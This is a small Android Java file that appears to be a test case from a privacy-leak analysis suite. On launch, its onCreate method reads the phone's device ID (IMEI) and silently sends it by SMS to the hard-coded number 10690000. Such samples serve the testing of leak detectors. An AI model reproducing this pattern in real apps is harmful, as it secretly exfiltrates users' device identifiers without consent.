package cn.privlens.suite.label_by_class;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Catalogue catalogue = new Catalogue()
                .label(Program.class, "demo")
                .label(Device.class, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("10690000", null, catalogue.of(Device.class), null, null);
    }
}
